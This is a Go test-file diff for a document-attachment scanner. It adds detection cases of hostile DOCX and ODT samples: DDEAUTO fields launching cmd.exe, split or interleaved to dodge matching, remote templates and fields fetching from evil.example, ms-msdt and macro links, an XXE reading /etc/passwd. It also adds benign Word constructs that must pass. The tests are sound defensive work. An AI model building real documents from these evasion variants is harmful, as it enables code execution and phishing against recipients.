@@ -212,6 +212,39 @@ func campaign() []hostile {
 		{what: "a link that is a script", name: "a.docx", file: docx(relation("hyperlink", "javascript:alert(1)", "External")), why: attachment.Active},
 		{what: "DDE", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, word(`<w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r>`)), why: attachment.Active},
 		{what: "a field that fetches", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, word(`<w:fldSimple w:instr=" INCLUDEPICTURE https://evil.example/a.png "/>`)), why: attachment.Active},
+		{what: "DDE in two pieces", name: "a.docx", file: docxOf(begun + instructions(" DD", `EAUTO c:\\windows\\system32\\cmd.exe "/k calc"`) + ended), why: attachment.Active},
+		{what: "DDE around a remark", name: "a.docx", file: docxOf(begun + instructions(` DD<!-- -->EAUTO c:\\x`)), why: attachment.Active},
+		{what: "DDE around a foreign element", name: "a.docx", file: docxOf(begun + instructions(` DD<x:y/>EAUTO c:\\x`)), why: attachment.Active},
+		{what: "DDE around what was struck out", name: "a.docx", file: docxOf(begun + instructions(" DD") + `<w:del><w:r><w:delInstrText>zz</w:delInstrText></w:r></w:del>` + instructions("EAUTO x") + ended), why: attachment.Active},
+		{what: "DDE around what Word passes over", name: "a.docx", file: docxOf(begun + instructions(" DD") + "<x:y>" + instructions("zz") + "</x:y>" + instructions("EAUTO x") + ended), why: attachment.Active},
+		{what: "DDE around what Word passes over by its prefix", name: "a.docx", file: docxOf(begun + instructions(" DD") + `<w:y xmlns:w="x">` + instructions("zz") + "</w:y>" + instructions("EAUTO x") + ended), why: attachment.Active},
+		{what: "DDE around a text", name: "a.docx", file: docxOf(begun + instructions(" DD") + "<w:r><w:t>zz</w:t></w:r>" + instructions("EAUTO x") + ended), why: attachment.Active},
+		{what: "DDE after a piece of no field", name: "a.docx", file: docxOf(instructions("PAGE") + instructions("DDEAUTO x")), why: attachment.Active},
+		{what: "DDE after the end of an instruction", name: "a.docx", file: docxOf(begun + instructions("PAGE") + `<w:r><w:fldChar w:fldCharType="separate"/></w:r>` + instructions("DDEAUTO x")), why: attachment.Active},
+		{what: "DDE that never ends", name: "a.docx", file: docxOf(begun + instructions("DDEAUTO x")), why: attachment.Active},
+		{what: "DDE in quotes", name: "a.docx", file: docxOf(instructions(` &quot;DDEAUTO&quot; c:\\x`)), why: attachment.Active},
+		{what: "DDE that was struck out", name: "a.docx", file: docxOf(`<w:del><w:r><w:delInstrText>DDE c:\\x</w:delInstrText></w:r></w:del>`), why: attachment.Active},
+		{what: "DDE behind a field of the same paragraph", name: "a.docx", file: docxOf(begun + instructions("PAGE") + ended + begun + instructions("DDE", "AUTO x") + ended), why: attachment.Active},
+		{what: "DDE after the result of another field", name: "a.docx", file: docxOf(begun + instructions(" IF 1 = 1 ") + begun + instructions(" DDEAUTO x") + ended + ended), why: attachment.Active},
+		{what: "a field whose name another makes", name: "a.docx", file: docxOf(begun + begun + instructions(" QUOTE 68 68 69 ") + ended + instructions(` c:\\x`) + ended), why: attachment.Active},
+		{what: "a field that asks a database", name: "a.docx", file: docxOf(instructions(` DATABASE \d "\\evil.example\a.mdb"`)), why: attachment.Active},
+		{what: "DDE behind an attribute of the same name", name: "a.docx", file: docxOf(`<w:fldSimple x:instr="PAGE" w:instr="DDEAUTO c:\\x"/>`), why: attachment.Active},
+		{what: "a template behind an attribute of the same name", name: "a.docx", file: docx(part{"word/_rels/settings.xml.rels", `<Relationships><Relationship x:Type="a/hyperlink" Type="a/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>`}), why: attachment.Active},
+		{what: "a template behind a mode of the same name", name: "a.docx", file: docx(part{"word/_rels/settings.xml.rels", `<Relationships><Relationship Type="a/attachedTemplate" Target="https://evil.example/t.dotm" x:TargetMode="Internal" TargetMode="External"/></Relationships>`}), why: attachment.Active},
+		{what: "another document than the one that is looked at", name: "a.docx", file: zipOf(part{"[Content_Types].xml", strings.Replace(types, "/word/document.xml", "/word/main.dat", 1)},
+			part{"_rels/.rels", strings.Replace(rels, "word/document.xml", "word/main.dat", 1)}, part{"word/main.dat", word(instructions("DDEAUTO x")).text}, word("")), why: attachment.Bomb},
+		{what: "another document, by the relation alone", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", strings.Replace(rels, "word/document.xml", "word/main.dat", 1)},
+			part{"word/main.dat", word(instructions("DDEAUTO x")).text}, word("")), why: attachment.Bomb},
+		{what: "a heading under another end", name: "a.docx", file: zipOf(part{"[Content_Types].xml", strings.Replace(types, "<Override", `<Override PartName="/word/header.dat" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/><Override`, 1)},
+			part{"_rels/.rels", rels}, word(""), part{"word/header.dat", word(instructions("DDEAUTO x")).text}), why: attachment.Bomb},
+		{what: "an end that is XML by its word", name: "a.docx", file: zipOf(part{"[Content_Types].xml", strings.Replace(types, "<Override", `<Default Extension="dat" ContentType="application/xml"/><Override`, 1)},
+			part{"_rels/.rels", rels}, word("")), why: attachment.Bomb},
+		{what: "an object of OLE under another end", name: "a.docx", file: docx(relation("oleObject", "media/image1.dat", "Internal"), part{"word/media/image1.dat", "MZ"}), why: attachment.Active},
+		{what: "a page of mail within", name: "a.docx", file: docx(relation("aFChunk", "media/a.dat", "Internal"), part{"word/media/a.dat", html}), why: attachment.Active},
+		{what: "a package under another end", name: "a.docx", file: docx(relation("package", "media/a.dat", "Internal"), part{"word/media/a.dat", "PK"}), why: attachment.Active},
+		{what: "buttons of a program", name: "a.docx", file: docx(part{"customUI/customUI14.xml", "<customUI/>"}), why: attachment.Active},
+		{what: "a link that starts a program of Windows", name: "a.docx", file: docx(relation("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")), why: attachment.Active},
+		{what: "a link that starts a command of LibreOffice", name: "a.docx", file: docx(relation("hyperlink", "vnd.libreoffice.command:x", "External")), why: attachment.Active},
 		{what: "an entity of a file", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, xxe), why: attachment.Bomb},
 		{what: "a billion laughs", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, laughs), why: attachment.Bomb},
 		{what: "elements 5,000 deep", name: "a.docx", file: zipOf(part{"[Content_Types].xml", types}, part{"_rels/.rels", rels}, part{"word/document.xml", deep.String()}), why: attachment.Bomb},
@@ -220,6 +253,10 @@ func campaign() []hostile {
 		{what: "a Python program in ODT", name: "a.odt", file: odt("", part{"Scripts/python/evil.py", "import os"}), why: attachment.Active},
 		{what: "an event in ODT", name: "a.odt", file: odt(`<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/>`), why: attachment.Active},
 		{what: "a picture from outside in ODT", name: "a.odt", file: odt(`<draw:image xlink:href="https://evil.example/a.png"/>`), why: attachment.Active},
+		{what: "a picture from outside behind an attribute of the same name", name: "a.odt", file: odt(`<draw:image x:href="Pictures/1.png" xlink:href="https://evil.example/a.png"/>`), why: attachment.Active},
+		{what: "a part from a store of documents", name: "a.odt", file: odt(`<text:section-source xlink:href="vnd.sun.star.webdav://evil.example/a.odt"/>`), why: attachment.Active},
+		{what: "a link that starts a program in ODT", name: "a.odt", file: odt(`<text:a xlink:href="vnd.sun.star.script:x.y?language=Basic&amp;location=application"/>`), why: attachment.Active},
+		{what: "a link that starts a macro in ODT", name: "a.odt", file: odt(`<text:a x:href="" xlink:href="macro:///Standard.Module1.Main"/>`), why: attachment.Active},
 		{what: "an object in ODT", name: "a.odt", file: odt(`<draw:object xlink:href="./Object 1"/>`), why: attachment.Active},
 		{what: "an entity in ODT", name: "a.odt", file: odt("", part{"styles.xml", `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>`}), why: attachment.Bomb},
 		{what: "a locked ODT", name: "a.odt", file: zipOf(part{"mimetype", odtType}, part{"META-INF/manifest.xml", `<manifest><encryption-data/></manifest>`}, part{"content.xml", "<a/>"}), why: attachment.Locked},
@@ -307,6 +344,42 @@ func benign() map[string][]byte {
 		"арыз.docx": docx(relation("hyperlink", "https://adilet.zan.kz/", "External"), part{"docProps/core.xml", "<a/>"}), "арыз.odt": odt(`<text:a xlink:href="https://adilet.zan.kz/">zan</text:a>`),
 		"жазба.mp3": append([]byte("ID3\x03\x00\x00\x00\x00\x00\x0aTITLE12345"), mp3()...), "жазба.m4a": mp4("M4A ", "soun"), "жазба.aac": aac(),
 		"жазба.ogg": ogg("OpusHead"), "жазба.wav": wav(), "бейне.mp4": mp4("mp42", "vide", "soun"), "бейне.webm": webm("webm"),
+	}
+}
+
+// Word of the browser calls the document document2.xml; Word writes the instruction of a
+// field in pieces, and fields within fields; people link to what they read.
+func TestWhatWordWritesByItselfIsTaken(t *testing.T) {
+	named := func(name string) []byte {
+		return zipOf(part{"[Content_Types].xml", strings.Replace(types, "document.xml", name, 1)}, part{"_rels/.rels", strings.Replace(rels, `Target="word/document.xml"`, `Target="/word/`+name+`"`, 1)},
+			part{"word/" + name, word("").text})
+	}
+	for what, file := range map[string][]byte{
+		"Word of the browser":      named("document2.xml"),
+		"Word of SharePoint":       named("document22.xml"),
+		"an address from the root": named("document.xml"),
+		"a number of the page":     docxOf(begun + instructions(" PA", `GE \* MERGEFORMAT `) + ended),
+		"a table of contents":      docxOf(begun + instructions(` TOC \o "1-3" \h `) + begun + instructions(" PAGEREF _Toc1 ") + ended + begun + instructions(` HYPERLINK \l "dde" `) + ended + ended),
+		"a choice between fields":  docxOf(begun + instructions(" IF ") + begun + instructions(" PAGE ") + ended + instructions(` = 1 "DDE" "LINK"`) + ended),
+		"a reckoning with a page":  docxOf(begun + instructions(" = ") + begun + instructions(" PAGE ") + ended + instructions(" + 1 ") + ended),
+		"a reckoning":              docxOf(begun + instructions(" =SUM(ABOVE) ") + ended),
+		"a field struck out":       docxOf(`<w:r><w:delInstrText> DATE </w:delInstrText></w:r>`),
+		"a field in a box":         docxOf(`<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx>` + begun + instructions(" PA", "GE ") + ended + `</wps:txbx></w:drawing></mc:Choice></mc:AlternateContent></w:r>`),
+		"letters joined":           docxOf(begun + `<w:r><w:rPr><w14:ligatures w14:val="standard"/></w:rPr><w:instrText>PAGE</w:instrText></w:r>` + ended),
+		"a citation":               docxOf(`<w:r><w:fldChar w:fldCharType="begin"><w:fldData>RERFIA==</w:fldData></w:fldChar></w:r>` + instructions(" ADDIN EN.CITE ") + ended),
+		"a link to a law":          docx(relation("hyperlink", "jl:30005029.0", "External")),
+		"a link to a mail":         docx(relation("hyperlink", "mailto:a@example.kz", "External")),
+		"a picture and a theme":    docx(relation("image", "media/image1.png", "Internal"), part{"word/media/image1.png", "\x89PNG"}),
+		"its own settings":         docx(part{"customXml/item1.xml", "<a/>"}, part{"customXml/_rels/item1.xml.rels", `<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXmlProps" Target="itemProps1.xml"/></Relationships>`}),
+	} {
+		if message, _, _, _, _, err := attachment.Look(t.Context(), "a.docx", file); err != nil || message != "" {
+			t.Errorf("%s: %q, %v", what, message, err)
+		}
+	}
+	for _, link := range []string{"https://adilet.zan.kz/", "#a|outline", "../b.odt", "jl:30005029.0", "mailto:a@example.kz"} {
+		if message, _, _, _, _, err := attachment.Look(t.Context(), "a.odt", odt(`<text:a xlink:href="`+link+`">x</text:a><draw:image xlink:href="Pictures/1.png"/>`)); err != nil || message != "" {
+			t.Errorf("%s: %q, %v", link, message, err)
+		}
 	}
 }
 
